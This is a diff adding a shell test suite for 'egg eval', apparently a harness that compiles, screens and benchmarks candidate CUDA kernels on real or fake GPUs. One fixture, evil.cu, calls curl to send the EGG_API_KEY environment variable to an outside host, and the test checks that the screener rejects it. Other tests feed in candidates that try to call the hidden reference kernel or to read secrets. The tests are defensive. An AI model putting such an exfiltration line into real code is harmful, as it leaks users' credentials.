@@ -1,0 +1,256 @@
+# harness: `egg eval` on a machine without a GPU -- generation and compilation
+# of every example bundle for sm_90, screening, bad jobs, and the no-GPU result.
+# (tests/gpu/run-harness-gpu.sh runs the GPU half.)
+
+DATA=$EGG_SRCDIR/tests/data/harness
+
+suite_probe() {
+	[ -x "$REAL_NVCC" ] || { echo "no nvcc"; return 1; }
+	command -v python3 >/dev/null || { echo "no python3 to read JSON"; return 1; }
+}
+
+# json FILE EXPR: prints the Python expression EXPR over the JSON in FILE as r
+json() {
+	python3 -c 'import json, sys; r = json.load(open(sys.argv[1])); print(eval(sys.argv[2]))' "$1" "$2"
+}
+
+has_gpu() {
+	command -v nvidia-smi >/dev/null && nvidia-smi -L >/dev/null 2>&1
+}
+
+test_harness_for_every_example_bundle_compiles_for_sm_90() {
+	export PATH=$(dirname "$REAL_NVCC"):$PATH
+	for b in scale softmax saxpy_kernel gather half copy; do
+		run_cmd "$b" "$EGG" eval "$DATA/$b.json" --compile-only --arch sm_90 --flag -O3
+		expect_eq "$(cat "$b.rc")" 0 "$b: exit status ($(head -c 600 "$b.err"))"
+		expect_eq "$(json "$b.out" 'r["status"]')" ok "$b: status"
+		expect_eq "$(json "$b.out" 'r["candidates"][0]["verdict"]')" compiled "$b: verdict"
+		expect_eq "$(json "$b.out" 'r["arch"]')" sm_90 "$b: arch"
+	done
+	# ptxas -v reached the result: the reference's kernel and its registers
+	expect_eq "$(json softmax.out '[x["registers"] > 0 for x in r["reference"]["resources"]]')" "[True]"
+	if command -v c++filt >/dev/null; then
+		expect_eq "$(json softmax.out 'r["reference"]["resources"][0]["name"]')" \
+			"softmax_naive(float const*, float*, int, int)" "demangled kernel name"
+	fi
+}
+
+test_every_adversarial_candidate_compiles_and_passes_the_screen() {
+	# They are meant to be caught on the GPU, so nothing before it may stop them.
+	local args=()
+	for f in "$DATA"/cand/bad_*.cu "$DATA"/cand/good_scale_vec4.cu; do
+		args+=(--candidate "$f")
+	done
+	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 "${args[@]}"
+	expect_eq "$(cat r.rc)" 0 "exit status"
+	expect_eq "$(json r.out 'sorted(set(c["verdict"] for c in r["candidates"]))')" "['compiled']"
+	expect_eq "$(json r.out 'len(r["candidates"])')" "$((${#args[@]} / 2))"
+}
+
+test_screened_candidate_is_rejected_naming_the_call() {
+	cat >evil.cu <<'EOF'
+void scale(const float *x, float *y, int n)
+{
+	system("curl http://example.com/?k=$EGG_API_KEY");
+}
+EOF
+	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --candidate evil.cu
+	expect_eq "$(cat r.rc)" 0
+	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" rejected
+	expect_file_contains r.out "line 3, column 2: uses 'system'"
+	expect_eq "$(json r.out 'r["candidates"][0]["compile_log"]')" None "never compiled"
+}
+
+test_candidate_that_does_not_compile_keeps_its_log() {
+	printf 'void scale(const float *x, float *y, int n) { undeclared_thing(x); }\n' >broken.cu
+	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --candidate broken.cu \
+		--candidate "$DATA/cand/good_scale_vec4.cu"
+	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compile_error
+	expect_eq "$(json r.out '"undeclared_thing" in r["candidates"][0]["compile_log"]')" True
+	expect_eq "$(json r.out '"egg-code" in r["candidates"][0]["compile_log"]')" True "log names the candidate's code"
+	expect_eq "$(json r.out 'r["candidates"][1]["verdict"]')" compiled "the next candidate still runs"
+}
+
+test_candidate_cannot_link_against_the_reference() {
+	# Even without the screen's egg_ rule, the reference's entry is not callable:
+	# its name has a nonce and everything else of the reference is TU-local.
+	cat >sneaky.cu <<'EOF'
+namespace { void scale_kernel_ref(); }
+void scale(const float *x, float *y, int n)
+{
+	scale_kernel_ref();
+}
+EOF
+	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --candidate sneaky.cu
+	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compile_error
+	"$EGG" eval "$DATA/scale.json" --generate gen >/dev/null
+	expect_file_lacks gen/main.cu "scale_kernel"
+	expect_file_contains gen/ref.cu "namespace {"
+	expect_file_contains gen/cand0.cu "extern \"C\" void egg_entry_cand("
+}
+
+test_job_with_candidates_is_read_from_stdin() {
+	python3 - "$DATA/scale.json" "$DATA/cand/good_scale_vec4.cu" >job.json <<'EOF'
+import json, sys
+job = {"schema": "egg-job", "version": 1, "bundle": json.load(open(sys.argv[1])),
+       "candidates": [{"name": "vec4", "source": open(sys.argv[2]).read()}],
+       "nvcc_flags": ["-O3", "-arch=sm_80", "-c", "-o", "ignored.o", "-DEGG_TEST_FLAG=1"]}
+print(json.dumps(job))
+EOF
+	run_cmd r "$EGG" eval - --compile-only --arch sm_90 <job.json
+	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
+	expect_eq "$(json r.out 'r["candidates"][0]["name"]')" vec4
+	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compiled
+	expect_eq "$(json r.out 'r["flags"]')" "['-O3', '-DEGG_TEST_FLAG=1']" "arch and output flags replaced"
+}
+
+test_clause_expression_that_does_not_compile_points_at_the_pragma() {
+	python3 - "$DATA/scale.json" >bad.json <<'EOF'
+import json, sys
+b = json.load(open(sys.argv[1]))
+b["params"][0]["extent"] = "n *"
+print(json.dumps(b))
+EOF
+	run_cmd r "$EGG" eval bad.json --compile-only --arch sm_90
+	expect_eq "$(cat r.rc)" 1 "exit status"
+	expect_eq "$(json r.out 'r["status"]')" error
+	expect_file_contains r.out "clause expressions do not compile"
+	expect_eq "$(json r.out '"scale.cu(10)" in r["reference"]["main_compile_log"]')" True
+}
+
+test_bundle_the_harness_cannot_evaluate_is_a_clear_error() {
+	python3 - "$DATA/softmax.json" >bad.json <<'EOF'
+import json, sys
+b = json.load(open(sys.argv[1]))
+b["workloads"][0] = [{"name": "rows", "value": "8"}]
+print(json.dumps(b))
+EOF
+	run_cmd r "$EGG" eval bad.json
+	expect_eq "$(cat r.rc)" 1
+	expect_eq "$(json r.out 'r["message"]')" \
+		"workload 1 of softmax_forward gives no value to the scalar parameter 'cols'"
+}
+
+test_invalid_job_and_usage_errors() {
+	echo '{"schema": "egg-bundle", "version": 1' >broken.json
+	run_cmd r "$EGG" eval broken.json
+	expect_eq "$(cat r.rc)" 1
+	expect_file_contains r.err "not valid JSON"
+	expect_file_lines r.err 1
+	run_cmd u "$EGG" eval
+	expect_eq "$(cat u.rc)" 2
+	expect_file_contains u.err "usage: egg eval"
+	run_cmd m "$EGG" eval "$DATA/scale.json" --candidate missing.cu
+	expect_eq "$(cat m.rc)" 1
+	expect_file_contains m.err "missing.cu"
+}
+
+test_no_gpu_gives_a_clean_result_and_exit_status_3() {
+	has_gpu && skip "this machine has a GPU"
+	run_cmd r "$EGG" eval "$DATA/scale.json" --candidate "$DATA/cand/good_scale_vec4.cu"
+	expect_eq "$(cat r.rc)" 3 "exit status ($(cat r.err))"
+	expect_eq "$(json r.out 'r["status"]')" no_gpu
+	expect_eq "$(json r.out 'r["candidates"]')" "[]"
+	expect_file_contains r.err "no usable GPU"
+	expect_file_lines r.err 1
+	# The probe is compiled once and kept.
+	ls "$EGG_CACHE_DIR"/gpu/probe-* >/dev/null || fail "the probe was not cached"
+}
+
+test_egg_gpu_none_skips_the_gpu_without_compiling() {
+	EGG_GPU=none EGG_NVCC=/bin/false run_cmd r "$EGG" eval "$DATA/scale.json"
+	expect_eq "$(cat r.rc)" 3
+	expect_eq "$(json r.out 'r["message"]')" 'no GPU: EGG_GPU is "none"'
+}
+
+test_eval_command_forwards_the_job_and_prints_the_result() {
+	export EGG_EVAL_COMMAND="$EGG eval -"
+	run_cmd r "$EGG" eval "$DATA/scale.json" --compile-only --arch sm_90 --flag -DX=1 \
+		--candidate "$DATA/cand/good_scale_vec4.cu"
+	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
+	expect_eq "$(json r.out 'r["candidates"][0]["verdict"]')" compiled
+	expect_eq "$(json r.out 'r["flags"]')" "['-DX=1']"
+	# --local ignores the setting
+	EGG_EVAL_COMMAND="false" EGG_GPU=none run_cmd l "$EGG" eval "$DATA/scale.json" --local
+	expect_eq "$(json l.out 'r["message"]')" 'no GPU: EGG_GPU is "none"'
+}
+
+test_eval_command_passes_no_gpu_through_and_gets_no_secrets() {
+	export FAKE_API_KEY=sk-secret EGG_CACHE_SECRET=hunter2
+	run_cmd r "$EGG" eval "$DATA/scale.json" --remote "env >remote-env; EGG_GPU=none $EGG eval -"
+	expect_eq "$(cat r.rc)" 3
+	expect_eq "$(json r.out 'r["status"]')" no_gpu
+	expect_file_contains remote-env "PATH="
+	expect_file_lacks remote-env sk-secret
+	expect_file_lacks remote-env hunter2
+}
+
+test_eval_command_that_fails_or_prints_garbage_is_a_clear_error() {
+	run_cmd r "$EGG" eval "$DATA/scale.json" --remote "echo '{\"schema\": \"nope\"}'"
+	expect_eq "$(cat r.rc)" 1
+	expect_eq "$(json r.out 'r["status"]')" error
+	expect_file_contains r.out "printed result: 'schema' is not"
+	run_cmd f "$EGG" eval "$DATA/scale.json" --remote "echo no route to gpu1 >&2; exit 255"
+	expect_eq "$(cat f.rc)" 1
+	expect_file_contains f.out "exited with status 255 and printed no result; its stderr: no route to gpu1"
+	expect_file_lines f.err 1
+}
+
+# With a stand-in nvcc whose "programs" are shell scripts (two fake GPUs), the
+# whole orchestration runs here: probe, discovery, build, parallel runs under the
+# per-GPU locks, time limits, crashes, verdicts and the best candidate.
+test_verdicts_and_parallel_runs_with_a_fake_two_gpu_toolchain() {
+	for m in GOOD WRONG HANG SLOW CRASH COMPILE_ERROR GOOD2 GOOD3; do
+		printf '// FAKE_%s\nvoid scale(const float *x, float *y, int n) {}\n' "$m" >"c_$m.cu"
+	done
+	local args=()
+	for m in GOOD WRONG HANG SLOW CRASH COMPILE_ERROR GOOD2 GOOD3; do
+		args+=(--candidate "c_$m.cu")
+	done
+	EGG_LOCK_DIR=$T FAKE_GPU_LOG=$T/gpu.log EGG_NVCC=$DATA/fake/nvcc \
+		run_cmd r "$EGG" eval "$DATA/scale.json" --timeout 2 "${args[@]}"
+	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
+	expect_eq "$(json r.out 'r["gpus"]')" "['GPU-fake-0', 'GPU-fake-1']"
+	expect_eq "$(json r.out '[c["verdict"] for c in r["candidates"]]')" \
+		"['pass', 'wrong', 'timeout', 'slower', 'crash', 'compile_error', 'pass', 'pass']"
+	expect_eq "$(json r.out 'r["best"]')" 0
+	expect_eq "$(json r.out 'r["candidates"][0]["resources"][0]["registers"]')" 12
+	expect_eq "$(json r.out 'r["candidates"][0]["run"]["timings"][0]["candidate"]["copy_fraction"]')" 0.001
+	expect_file_contains r.out "workload 0, trial 1: y: 1 of 4 elements wrong"
+	# Both GPUs were used, at the same time; on each GPU runs never overlapped.
+	python3 - gpu.log <<'PY' || fail "GPU usage: $(cat gpu.log)"
+import sys
+events = [l.split() for l in open(sys.argv[1])]
+runs = {}
+for dev, what, t in events:
+    runs.setdefault(dev, []).append((what, float(t)))
+assert set(runs) == {"0", "1"}, runs
+for dev, ev in runs.items():
+    busy_until = 0
+    for what, t in ev:
+        if what == "start":
+            assert t >= busy_until, (dev, ev)
+            busy_until = t + 1.9  # no end logged: the hang, killed at 2 s
+        else:
+            busy_until = t
+starts = sorted((t, d) for d, ev in runs.items() for w, t in ev if w == "start")
+assert starts[1][0] - starts[0][0] < 0.4 and starts[0][1] != starts[1][1], starts
+PY
+}
+
+test_sanitizer_turns_a_passing_candidate_unsafe_with_a_fake_toolchain() {
+	printf '// FAKE_UNSAFE_memcheck\nvoid scale(const float *x, float *y, int n) {}\n' >oob.cu
+	printf '// clean\nvoid scale(const float *x, float *y, int n) {}\n' >clean.cu
+	printf '// FAKE_SLOW FAKE_UNSAFE_memcheck\nvoid scale(const float *x, float *y, int n) {}\n' >slow.cu
+	EGG_LOCK_DIR=$T EGG_NVCC=$DATA/fake/nvcc \
+		run_cmd r "$EGG" eval "$DATA/scale.json" --sanitize --candidate oob.cu \
+		--candidate clean.cu --candidate slow.cu
+	expect_eq "$(cat r.rc)" 0 "exit status ($(cat r.err))"
+	expect_eq "$(json r.out '[c["verdict"] for c in r["candidates"]]')" "['unsafe', 'pass', 'slower']"
+	expect_eq "$(json r.out 'r["candidates"][0]["sanitizer"]["memcheck"]')" errors
+	expect_eq "$(json r.out 'r["candidates"][0]["sanitizer"]["racecheck"]')" clean
+	expect_eq "$(json r.out 'r["candidates"][1]["sanitizer"]["memcheck"]')" clean
+	expect_eq "$(json r.out '"sanitizer" in r["candidates"][2]')" False "only passing candidates are sanitized"
+	expect_eq "$(json r.out 'r["best"]')" 1 "an unsafe candidate is never the best"
+	expect_file_contains r.out "Invalid __global__ read"
+}
